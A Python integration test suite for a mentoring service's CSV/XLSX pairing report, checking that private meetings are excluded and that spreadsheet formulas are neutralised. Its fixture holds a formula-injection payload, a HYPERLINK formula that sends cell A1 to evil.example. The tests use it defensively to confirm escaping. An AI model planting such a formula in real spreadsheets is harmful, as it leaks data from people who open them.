"""The coordinator's report. Through real servers (SMTP into Dovecot, the worker on Redis
fetching over IMAP, PostgreSQL or SQLite): `report`, written in a reply to the digest, comes
back with a CSV and an XLSX of every pairing, whose rows are the program's, no cell of which
a spreadsheet executes, and nothing private in them. And `mentormail report`, run as a user
runs it."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

import service.coordinators.report
from service.agreement.enrolment import import_roster
from service.coordinators.report_rules import COLUMNS
from service.outbox.writer import OutboxWriter
from service.program.roster import read_roster
from service.storage.models import Meeting, Pairing, Task, TaskState
from tests.integration.conftest import Live
from tests.integration.test_cli import HEADER, ROW, mentormail
from tests.integration.test_coordinators import CSV, FIRST_DIGEST, PAT, SAM, ZOE, command, text_of
from tests.mail import parse, reply_to

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
PHONE = "+1-555-0100"
IN_CSV = HOSTILE.replace('"', '""')
ROSTER = (
    CSV
    + (
        f'Hematology 2027,"{IN_CSV}",lee@hospital.example,America/New_York,'
        f"{PHONE},kai@university.example,America/New_York,2027-01-04,monthly,Tuesday,14:00,{PAT}\n"
    ).encode()
)
NEW_YORK = ZoneInfo("America/New_York")


def attached(raw: bytes) -> dict[str, bytes]:
    """The files an email carries, by name, as they are saved."""
    found = {}
    for part in parse(raw).iter_attachments():
        payload = part.get_payload(decode=True)
        assert isinstance(payload, bytes)
        found[str(part.get_filename())] = payload
    return found


async def test_a_coordinator_writes_report_and_gets_every_pairing_as_csv_and_xlsx(
    live: Live, monkeypatch: pytest.MonkeyPatch
) -> None:
    await import_roster(
        read_roster(ROSTER, live.clock.now().date()),
        OutboxWriter(live.app.settings, live.app.secret),
        live.clock.now(),
    )
    await live.run("send_outbox")
    for address in (SAM, ZOE):
        request = live.received(address, "agreement_request")[0]
        await live.send(reply_to(request, sender=address, body="I agree"), address)
    await live.run("poll_inbox", "send_outbox")
    # Two days on: Sam adds an action item; Zoë asks for a performance conversation, a
    # private matter: its meeting and her reply stay out of the report.
    # (Each answers the signed agreement: the first invitation may still wait for a
    # quieter day.)
    live.clock.set(live.clock.now() + timedelta(days=2))
    signed = live.received(SAM, "agreement_signed")[0]
    await live.send(reply_to(signed, sender=SAM, body="task: send my CV by Jan 20"), SAM)
    signed = live.received(ZOE, "agreement_signed")[0]
    # (Its own day, not the default one: Friday 1 January is a day off.)
    await live.send(
        reply_to(signed, sender=ZOE, body="performance conversation: Thursday 31 December 10:00"),
        ZOE,
    )
    await live.run("poll_inbox", "send_outbox")
    zoe_sam = await Pairing.get(mentor__email=ZOE)
    assert await Meeting.filter(pairing_id=zoe_sam.id, private=True).exists()

    live.clock.set(FIRST_DIGEST)
    await live.run("tick", "send_outbox")
    (digest,) = live.received(PAT, "digest")
    await command(live, digest, "report")
    (answer,) = live.received(PAT, "coordinator_reply")
    assert (
        "The report of your 3 pairings is attached "
        "(pairings-2027-01-04.csv and pairings-2027-01-04.xlsx)." in text_of(answer)
    )
    files = attached(answer)
    assert sorted(files) == ["pairings-2027-01-04.csv", "pairings-2027-01-04.xlsx"]

    # The program as the database holds it, nothing private counted.
    now = live.clock.now()
    expected: dict[int, dict[str, object]] = {}
    for pairing in await Pairing.all().select_related("mentor", "mentee").order_by("id"):
        expected[pairing.id] = {
            "Pairing": pairing.id,
            "Program": "Hematology 2027",
            "State": pairing.state.value,
            "Mentor": pairing.mentor.name,
            "Mentor email": pairing.mentor.email,
            "Mentee": pairing.mentee.name,
            "Mentee email": pairing.mentee.email,
            "Agreement": "signed" if pairing.signed_at else "waiting for both",
            "Meetings held": 0,
            "Meetings planned": await Meeting.filter(
                pairing_id=pairing.id, private=False, cancelled=False, starts_at__gt=now
            ).count(),
            "Open action items": await Task.filter(
                pairing_id=pairing.id, private=False, state=TaskState.OPEN
            ).count(),
        }
    signed = expected[zoe_sam.id]
    assert signed["Agreement"] == "signed" and signed["Open action items"] == 1
    # The private conversation, over by now, is not counted as held ("Meetings held": 0).
    (private,) = await Meeting.filter(pairing_id=zoe_sam.id, private=True)
    assert private.ends_at <= now and not private.cancelled

    # The CSV: one row a pairing, formulas shown as text.
    text = files["pairings-2027-01-04.csv"].decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text)))
    assert header == list(COLUMNS)
    by_number = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
    assert sorted(by_number) == sorted(expected)
    for number, want in expected.items():
        got = by_number[number]
        for column, value in want.items():
            shown = str(value)
            if shown[:1] in ("=", "+", "-", "@"):
                shown = "'" + shown
            assert got[column] == shown, (number, column)
    # Zoë's last reply is her agreement: her private request does not count as one.
    assert by_number[zoe_sam.id]["Mentor's last reply"] == "2026-12-28"
    assert by_number[zoe_sam.id]["Mentee's last reply"] == "2026-12-30"
    assert "performance" not in text.lower() and "private" not in text.lower()

    # The XLSX, read back with the library: the same rows, text as text, never a formula.
    data = files["pairings-2027-01-04.xlsx"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(data))["Pairings"]
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == list(COLUMNS)
    sheet_rows = {int(str(row[0])): dict(zip(COLUMNS, row, strict=True)) for row in values[1:]}
    assert sorted(sheet_rows) == sorted(expected)
    for number, want in expected.items():
        for column, value in want.items():
            assert sheet_rows[number][column] == value, (number, column)
    assert zoe_sam.signed_at is not None
    signed_on = zoe_sam.signed_at.astimezone(NEW_YORK).date()
    assert sheet_rows[zoe_sam.id]["Signed on"] == datetime.combine(signed_on, datetime.min.time())
    hostile = next(n for n, row in sheet_rows.items() if row["Mentor"] == HOSTILE)
    assert sheet_rows[hostile]["Mentee"] == PHONE
    line = sheet[hostile_line(values, hostile)]
    cells = {name: cell for name, cell in zip(COLUMNS, line, strict=True)}
    assert cells["Mentor"].data_type == "s" and cells["Mentor"].quotePrefix
    assert cells["Mentee"].data_type == "s" and cells["Mentee"].quotePrefix

    # Beyond what one email carries: the first pairings by number, and the answer says so.
    monkeypatch.setattr(service.coordinators.report, "EMAIL_REPORT_ROWS", 2)
    await command(live, answer, "report")
    shorter = live.received(PAT, "coordinator_reply")[-1]
    assert "The report of the first 2 pairings of your 3, by number, is attached" in (
        text_of(shorter)
    )
    assert "`mentormail report`" in text_of(shorter)
    text = attached(shorter)["pairings-2027-01-04.csv"].decode("utf-8-sig")
    numbers = [int(row[0]) for row in list(csv.reader(io.StringIO(text)))[1:]]
    assert numbers == sorted(expected)[:2]


def hostile_line(values: list[tuple[object, ...]], number: int) -> int:
    """The sheet's row number of pairing `number` (the header is row 1)."""
    return next(i for i, row in enumerate(values, start=1) if row[0] == number)


def test_mentormail_report_writes_every_pairing_as_csv_or_xlsx(tmp_path: Path) -> None:
    roster = tmp_path / "pairs.csv"
    roster.write_text(
        HEADER + ROW + f'Hematology 2027,"{IN_CSV}",lee@hospital.example,America/New_York,'
        f"{PHONE},kai@university.example,America/New_York,2026-12-01\n",
        encoding="utf-8",
    )
    imported = mentormail(tmp_path, "import", str(roster))
    assert imported.returncode == 0, imported.stderr

    # CSV on standard output by default.
    shown = mentormail(tmp_path, "report")
    assert shown.returncode == 0, shown.stderr
    header, *rows = list(csv.reader(io.StringIO(shown.stdout.removeprefix("\ufeff"))))
    assert header == list(COLUMNS)
    by_mentee = {
        row[COLUMNS.index("Mentee email")]: dict(zip(header, row, strict=True)) for row in rows
    }
    assert sorted(by_mentee) == ["kai@university.example", "sam@university.example"]
    sam = by_mentee["sam@university.example"]
    assert (sam["Mentor"], sam["Mentee"]) == ("Dr. Zoë O'Brien", "Sam Okafor")
    assert (sam["State"], sam["Agreement"]) == ("agreeing", "waiting for both")
    kai = by_mentee["kai@university.example"]
    assert (kai["Mentor"], kai["Mentee"]) == ("'" + HOSTILE, "'" + PHONE)

    # XLSX into a file, for one program named as its coordinator writes it.
    written = mentormail(tmp_path, "report", "--program", "hematology 2027", "--out", "all.xlsx")
    assert written.returncode == 0, written.stderr
    assert "The report of 2 pairings is in all.xlsx." in written.stdout
    sheet = load_workbook(tmp_path / "all.xlsx")["Pairings"]
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == list(COLUMNS) and len(values) == 3
    names = {(row[COLUMNS.index("Mentor")], row[COLUMNS.index("Mentee")]) for row in values[1:]}
    assert names == {("Dr. Zoë O'Brien", "Sam Okafor"), (HOSTILE, PHONE)}

    wrong = mentormail(tmp_path, "report", "--program", "Oncology 2027")
    assert wrong.returncode == 1
    assert "No program is called 'Oncology 2027'; programs: Hematology 2027" in wrong.stderr
